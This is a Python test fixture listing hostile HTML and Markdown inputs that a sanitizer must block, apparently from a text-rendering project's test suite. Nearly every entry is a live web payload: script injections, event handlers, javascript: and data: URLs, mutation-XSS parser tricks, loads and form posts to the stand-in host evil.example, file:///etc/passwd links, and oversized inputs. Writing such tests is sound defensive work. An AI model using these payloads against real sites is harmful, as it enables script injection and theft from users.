"""Hostile HTML in texts: what must never reach a page."""

from __future__ import annotations

from tests.hostile.pieces import Case, text

CASES: dict[str, Case] = {
    "script": text("<script>alert(1)</script>"),
    "script-in-capitals": text("<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    "script-cut": text("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    "script-with-slash": text("<script/src=//evil.example/x.js></script>"),
    "script-without-end": text("A line <script src=//evil.example/x.js"),
    "script-between-paragraphs": text("<div>\n\n<script>\nalert(1)\n</script>\n\n</div>"),
    "handler": text("<b onclick=alert(1)>a</b>"),
    "handler-without-space": text('<img/onerror="alert(1)"/src="x">'),
    "handler-after-quote": text('<img alt="a"onerror="alert(1)">'),
    "handler-with-odd-space": text("<b\x0conclick=alert(1)>a</b>"),
    "handler-with-new-line": text("<b\nonclick\n=\nalert(1)>a</b>"),
    "handler-in-a-quote": text("<b title='\" onclick=alert(1) \"'>a</b>"),
    "handler-behind-angle": text('<b title=">" onmouseover="alert(1)">a</b>'),
    "style-attribute": text('<p style="position:fixed;top:0;background:url(//evil.example/x)">a</p>'),
    "style-in-a-cell": text(
        '<table><tr><td style="text-align:left;background:url(//evil.example/x)">a</td></tr></table>'
    ),
    "style-element": text("<style>@import url(//evil.example/x.css); body{display:none}</style>"),
    "link-element": text('<link rel="stylesheet" href="//evil.example/x.css">'),
    "link-of-an-attachment": text('<link rel=attachment href="file:///etc/passwd">'),
    "anchor-of-an-attachment": text('<a rel=attachment href="file:///etc/passwd">a</a>'),
    "iframe": text('<iframe src="//evil.example"></iframe>'),
    "iframe-of-text": text('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    "object": text('<object data="//evil.example/x.swf"></object>'),
    "embed": text('<embed src="//evil.example/x.swf">'),
    "base": text('<base href="//evil.example/">'),
    "meta-refresh": text('<meta http-equiv="refresh" content="0;url=//evil.example/">'),
    "form": text(
        '<form action="//evil.example"><input name=a><button formaction="//evil.example">a</button></form>'
    ),
    "video": text('<video src="//evil.example/x" poster="//evil.example/y" onerror=alert(1)></video>'),
    "picture-sources": text(
        '<picture><source srcset="//evil.example/x"><img src="x" srcset="//evil.example/y 2x" alt="a"></picture>'
    ),
    "image-elsewhere": text('<img src="https://evil.example/x.png" alt="a">'),
    "image-of-script": text('<img src="javascript:alert(1)" alt="a">'),
    "image-of-data": text('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="a">'),
    "image-map": text('<map name=m><area href="javascript:alert(1)"></map><img usemap="#m" alt="a">'),
    "address-of-script": text("[a](javascript:alert(1))"),
    "address-of-script-in-capitals": text("[a](JaVaScRiPt:alert(1))"),
    "address-of-script-entity": text('<a href="&#106;avascript&colon;alert(1)">a</a>'),
    "address-of-script-entity-markdown": text("[a](&#x6A;avascript:alert(1))"),
    "address-of-script-tab": text('<a href="java\tscript:alert(1)">a</a>'),
    "address-of-script-new-line": text('<a href="java&#10;script:alert(1)">a</a>'),
    "address-of-script-space": text('<a href=" javascript:alert(1)">a</a>'),
    "address-of-script-control": text('<a href="\x01javascript:alert(1)">a</a>'),
    "address-of-script-auto": text("<javascript:alert(1)>"),
    "address-of-script-reference": text("[a][b]\n\n[b]: javascript:alert(1)"),
    "address-of-script-percent": text("[a](javascript%3Aalert(1))"),
    "address-of-script-unquoted": text("<a href=javascript:alert(1)>a</a>"),
    "address-of-script-twice": text('<a href="https://a.example" href="javascript:alert(1)">a</a>'),
    "address-of-script-namespace": text('<a xlink:href="javascript:alert(1)">a</a>'),
    "address-of-vbscript": text("[a](vbscript:msgbox(1))"),
    "address-of-data": text("[a](data:text/html;base64,PHNjcmlwdD4=)"),
    "address-of-file": text("[a](file:///etc/passwd)"),
    "address-of-blob": text("[a](blob:https://evil.example/x)"),
    "address-without-scheme": text("[a](//evil.example/x)"),
    "address-with-backslashes": text("[a](\\\\evil.example\\x)"),
    "address-broken": text("[a](http://[::1)"),
    "address-of-mail-with-quotes": text(
        '<a href="mailto:a@b.example?subject=&quot;><script>alert(1)</script>">a</a>'
    ),
    "address-of-cite": text('<blockquote cite="javascript:alert(1)">a</blockquote>'),
    "svg": text("<svg onload=alert(1)><script>alert(1)</script></svg>"),
    "svg-foreign-object": text(
        "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>"
    ),
    "svg-animate": text(
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a</text></a></svg>"
    ),
    "svg-use": text('<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    "mutation-math": text(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "mutation-svg": text('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    "mutation-noscript": text('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    "mutation-template": text("<template><script>alert(1)</script></template>"),
    "mutation-textarea": text("<textarea></textarea><img src=x onerror=alert(1)>"),
    "mutation-title": text("<title></title><img src=x onerror=alert(1)>"),
    "mutation-xmp": text("<xmp></xmp><img src=x onerror=alert(1)></xmp>"),
    "mutation-select": text("<select><option></select><img src=x onerror=alert(1)>"),
    "mutation-annotation": text(
        '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>'
    ),
    "mutation-comment": text("<!--><img src=x onerror=alert(1)>-->"),
    "mutation-comment-bang": text("<!-- --!><img src=x onerror=alert(1)> -->"),
    "mutation-cdata": text("<![CDATA[><img src=x onerror=alert(1)>]]>"),
    "mutation-instruction": text("<?x ><img src=x onerror=alert(1)>?>"),
    "mutation-doctype": text('<!DOCTYPE x [<!ENTITY a "<script>">]><b>&a;</b>'),
    "id-of-the-page": text('<div id="main">a</div>'),
    "id-of-the-document": text('<a id="getElementById" name="body">a</a><img name="cookie" alt="a">'),
    "id-of-a-block": text('<div id="p-1" data-b="p-1">a</div>'),
    "class-of-the-page": text('<div class="cover page-break sr-only" hidden>a</div>'),
    "role-of-an-alert": text('<div role="application" aria-hidden="true" tabindex="9">a</div>'),
    "body": text("</div></main></body></html><body onload=alert(1)><main>a"),
    "template-of-the-page": text("</template><slot name=a></slot><custom-element>a</custom-element>"),
    "frameset": text("<frameset onload=alert(1)><frame src=//evil.example></frameset>"),
    "plaintext": text("<plaintext>a\n\n## Lost"),
    "marquee": text("<marquee onstart=alert(1)>a</marquee>"),
    "details-open": text("<details open ontoggle=alert(1)><summary>a</summary>b</details>"),
    "dialog": text("<dialog open>a</dialog>"),
    "import": text("<link rel=import href=//evil.example>"),
    "markdown-inside": text('<div markdown="1" onclick="alert(1)">\n[a](javascript:alert(1))\n</div>'),
    "code-is-only-text": text("`<script>alert(1)</script>`\n\n    <script>alert(1)</script>"),
    "entities-are-only-text": text(
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;"
    ),
    "cells-many": text('<table><tr><td colspan="100000000" rowspan="100000000">a</td></tr></table>'),
    "columns-many": text('<table><colgroup span="100000000"></colgroup><tr><td>a</td></tr></table>'),
    "list-start-huge": text('<ol start="99999999999999999999"><li value="-99999999999999999999">a</li></ol>'),
    "image-size-huge": text('<img src="x" alt="a" width="99999999999" height="99999999999">'),
    "formats-nested": text("<b><i>" * 400 + "a"),
    "formats-crossed": text("<p><b><i><u><s>" * 120 + "a" + "</p>" * 120),
    "tables-nested": text("<table><tr><td>" * 120 + "a"),
    "attributes-many": text("<b " + " ".join(f"a{n}=1" for n in range(2500)) + ">a</b>"),
    "attribute-long": text(f'<b title="{"a" * 500_000}">a</b>'),
}
